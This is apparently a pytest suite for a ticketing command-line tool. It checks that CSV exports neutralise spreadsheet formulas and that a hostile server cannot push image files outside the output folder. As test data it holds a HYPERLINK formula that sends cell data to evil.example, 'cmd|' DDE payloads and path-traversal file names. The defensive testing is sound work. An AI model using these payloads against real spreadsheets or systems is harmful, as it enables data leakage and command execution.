"""Files the CLI writes for people: spreadsheet-safe CSVs, QR file names that stay inside the
folder whatever a server answers, and output piped into ``head`` (issue: trust holes 5, 6, 9).

Everything runs the real ``gatehouse`` in child processes against the real server; the hostile
server of the file-name test is a real HTTP server on loopback that answers like an attacker.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from core.csv_safe import safe_cell
from tests.boxoffice.conftest import sales_event
from tests.live_server import LiveServer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cli(home, *args, **kw):
    env = dict(os.environ, GATEHOUSE_HOME=str(home), QT_QPA_PLATFORM="offscreen")
    env.pop("GATEHOUSE_SERVER", None)
    env.pop("GATEHOUSE_TOKEN", None)
    return subprocess.run(
        [sys.executable, "-m", "app", *args], env=env, capture_output=True, text=True,
        timeout=120, **kw,
    )  # fmt: skip


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    with LiveServer() as s:
        yield s


def _cells(path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _no_formula(path) -> None:
    for cell in _cells(path):
        assert (
            not cell.startswith(("=", "+", "@", "-"))
            or cell.lstrip("+-").replace(".", "").isdigit()
        ), f"{path.name} has a cell a spreadsheet would run: {cell!r}"


def test_safe_cell_quotes_formulas_and_keeps_numbers():
    assert safe_cell(FORMULA) == "'" + FORMULA
    for text in ("+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("-5.00", "+3", "12", 7, None, "Asha Rao", "Élodie"):
        assert safe_cell(value) == value


def test_every_csv_the_cli_writes_is_spreadsheet_safe(live, tmp_path):
    org = ["--server", live.url, "--token", live.organizer_token]
    ev = sales_event(live)

    # admin tickets issue --holder
    issued = tmp_path / "issued"
    run = _cli(
        tmp_path, "admin", "tickets", "issue", "--event", str(ev["event"]),
        "--tier", str(ev["tier"]), "--count", "2", "--holder", FORMULA, "--out", str(issued), *org,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    _no_formula(issued / "tickets.csv")
    assert "'" + FORMULA in _cells(issued / "tickets.csv")

    # box-office pay --out (the reservation's name) and cashup --out (the staff name)
    res = live.create_reservation(ev["event"], ev["tier"], qty=1, name=FORMULA, phone="555")
    home = tmp_path / "counter"
    code = live.pairing_code(ev["event"], role="box-office")
    assert _cli(home, "pair", "--server", live.url, "--code", code).returncode == 0
    assert _cli(home, "sync", "--once").returncode == 0
    out = tmp_path / "sold"
    paid = _cli(
        home, "box-office", "pay", res["code"], "--method", "cash", "--amount", "25",
        "--staff", "@SUM(1+1)*cmd|' /C calc'!A0", "--out", str(out),
    )  # fmt: skip
    assert paid.returncode == 0, paid.stderr
    _no_formula(out / "tickets.csv")
    report = tmp_path / "cashup.csv"
    cash = _cli(home, "box-office", "cashup", "--out", str(report))
    assert cash.returncode == 0, cash.stderr
    _no_formula(report)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _cells(report)
    assert "25.00" in _cells(report)  # money stays a number


class _HostileServer(BaseHTTPRequestHandler):
    """Answers ``admin tickets issue`` with ticket numbers that are paths."""

    numbers: tuple[str, ...] = ()
    answer: object = None  # a fixed answer to every POST, when set
    posts: list[str] = []

    def _json(self, body, status=200):
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        if self.path.rstrip("/").endswith("/tiers"):
            self._json([{"id": 1, "name": "General"}])
        elif self.path.rstrip("/").endswith("/gates"):
            self._json([])
        elif self.path.startswith("/v1/events/"):
            self._json({"id": 1, "name": "Evil"})
        else:
            self._json([{"id": 1, "name": "Evil"}])

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        type(self).posts.append(self.path)
        if self.answer is not None:
            self._json(self.answer, 201)
            return
        tickets = [
            {"ticket_id": i, "holder": "x", "tier_name": "General", "code": f"GH1:{i}",
             "number": n, "tier": 1}
            for i, n in enumerate(self.numbers, 1)
        ]  # fmt: skip
        if self.path.endswith("/transfer"):
            self._json({"ticket": tickets[0], "old": {"ticket_id": 9}})
            return
        self._json({"tickets": tickets}, 201)

    def log_message(self, *args):
        pass


@pytest.fixture
def hostile():
    _HostileServer.answer, _HostileServer.posts = None, []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield ["--server", f"http://127.0.0.1:{server.server_port}", "--token", "gho_x"]
    finally:
        server.shutdown()
        server.server_close()


def test_ticket_pictures_stay_in_the_folder_whatever_the_server_answers(tmp_path, hostile):
    absolute = tmp_path / "absolute"
    _HostileServer.numbers = ("../../../escaped", str(absolute), "..", "ok-number")
    out = tmp_path / "a" / "b" / "c" / "out"  # missing folders are created
    run = _cli(
        tmp_path, "admin", "tickets", "issue", "--event", "1", "--tier", "1",
        "--count", "4", "--out", str(out), *hostile,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stderr
    written = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.png")}
    assert all(w.startswith("a/b/c/out/") and w.count("/") == 4 for w in written), written
    assert len(written) == 4  # four tickets, four pictures: none overwrote another
    assert not absolute.with_suffix(".png").exists()


def test_out_that_cannot_be_a_folder_is_refused_in_words(live, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    ev = sales_event(live)
    run = _cli(
        tmp_path, "admin", "tickets", "issue", "--event", str(ev["event"]), "--tier",
        str(ev["tier"]), "--count", "1", "--out", str(blocker / "sub"),
        "--server", live.url, "--token", live.organizer_token,
    )  # fmt: skip
    assert run.returncode == 2
    assert "Traceback" not in run.stderr and "is a file" in run.stderr


def test_output_piped_into_head_ends_quietly(live, tmp_path):
    """A reader that closes early (``| head``) gets no BrokenPipeError traceback."""
    event = live.create_event("Pipe Fest")["id"]
    ev = {"event": event, "tier": live.create_tier(event, "General")["id"]}
    env = dict(os.environ, GATEHOUSE_HOME=str(tmp_path), QT_QPA_PLATFORM="offscreen")
    proc = subprocess.Popen(
        [
            sys.executable, "-m", "app", "admin", "tickets", "issue", "--event",
            str(ev["event"]), "--tier", str(ev["tier"]), "--count", "400", "--json",
            "--out", str(tmp_path / "many"), "--server", live.url,
            "--token", live.organizer_token,
        ],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    first = proc.stdout.read(10)  # like `head -c 10`: read a little, then go away
    proc.stdout.close()
    err = proc.stderr.read().decode()
    assert first, err
    status = proc.wait(timeout=120)
    assert "Traceback" not in err and "BrokenPipe" not in err, err
    assert status == 141  # as a shell reports a writer stopped by SIGPIPE
    assert len(list((tmp_path / "many").glob("*.png"))) == 400  # the work itself was done


def test_a_transferred_tickets_picture_stays_in_the_folder(tmp_path, hostile):
    _HostileServer.numbers = ("../../transfer-escape",)
    out = tmp_path / "a" / "out"
    run = _cli(
        tmp_path, "admin", "tickets", "transfer", "--event", "1", "--holder", "New Holder",
        "1", "--out", str(out), *hostile,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    written = [p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.png")]
    assert written == ["a/out/transfer-escape.png"]


def test_an_out_folder_that_cannot_be_made_is_refused_before_the_server_changes_anything(
    tmp_path, hostile
):
    blocker = tmp_path / "afile"
    blocker.write_text("a file where the folder should be")
    run = _cli(
        tmp_path, "admin", "tickets", "transfer", "--event", "1", "--holder", "X", "1",
        "--out", str(blocker / "sub"), *hostile,
    )  # fmt: skip
    assert run.returncode == 2 and "Traceback" not in run.stderr
    assert "is a file" in run.stderr
    assert not [p for p in _HostileServer.posts if p.endswith("/transfer")]  # never sent


@pytest.mark.parametrize(
    "answer", [{"tickets": "nope"}, {"tickets": [{}]}, {"tickets": [{"code": None}]}, []]
)
def test_a_server_answer_without_tickets_is_refused_in_words(tmp_path, hostile, answer):
    _HostileServer.answer = answer
    run = _cli(
        tmp_path, "admin", "tickets", "issue", "--event", "1", "--tier", "1", "--count", "1",
        "--out", str(tmp_path / "out"), *hostile,
    )  # fmt: skip
    assert run.returncode == 2, run.stderr
    assert "Traceback" not in run.stderr and "form this gatehouse expects" in run.stderr


def test_files_with_names_codes_and_keys_are_readable_by_their_owner_only(live, tmp_path):
    """A manifest export carries PIN hashes and names on a USB stick; a server database,
    every key. Even under a permissive umask they are written 0600."""
    loose = dict(preexec_fn=lambda: os.umask(0o022))
    db = tmp_path / "server.sqlite"
    assert _cli(tmp_path, "server", "init", "--db", str(db), **loose).returncode == 0
    ev = sales_event(live)
    export = tmp_path / "usb" / "event.ghm"
    run = _cli(
        tmp_path, "admin", "manifest", "export", "--event", str(ev["event"]), "--out",
        str(export), "--server", live.url, "--token", live.organizer_token, **loose,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    for path in (db, export):
        assert path.stat().st_mode & 0o077 == 0, f"{path.name} is {oct(path.stat().st_mode)}"
